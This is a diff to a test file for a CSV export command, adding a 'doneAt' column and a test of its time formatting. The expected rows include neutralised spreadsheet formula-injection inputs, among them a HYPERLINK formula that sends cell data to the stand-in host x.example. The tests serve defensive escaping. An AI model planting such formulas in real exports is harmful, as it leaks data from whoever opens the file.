@@ -26,11 +26,23 @@ describe('export', () => {
     expect(code).toBe(0);
     expect(out).toBe(
       [
-        '\uFEFF"reference","state","reason","formType","form","receivedAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
-        `"${references[0]}","received","","contact","","2026-11-20 09:00","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
+        '\uFEFF"reference","state","reason","formType","form","receivedAt","doneAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
+        `"${references[0]}","received","","contact","","2026-11-20 09:00","","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
         '',
       ].join('\r\n'),
     );
+  });
+
+  test('says in CSV when an enquiry was done, by the clock of the garage', async () => {
+    const { url, db, references } = await makeDatabase({}, {});
+    await db
+      .updateTable('enquiry')
+      .set({ done_at: '2026-07-01T12:30:00.000Z' })
+      .where('reference', '=', references[0] ?? '')
+      .execute();
+    const { out } = await tools.run(url, 'export');
+    expect(out).toContain(`"${references[0]}","received","","contact","","2026-11-20 09:00","2026-07-01 13:30","Ann`);
+    expect(out).toContain(`"${references[1]}","received","","contact","","2026-11-20 10:00","","Ann`);
   });
 
   test('separates cells by a semicolon where numbers have a comma, as Excel expects there', async () => {
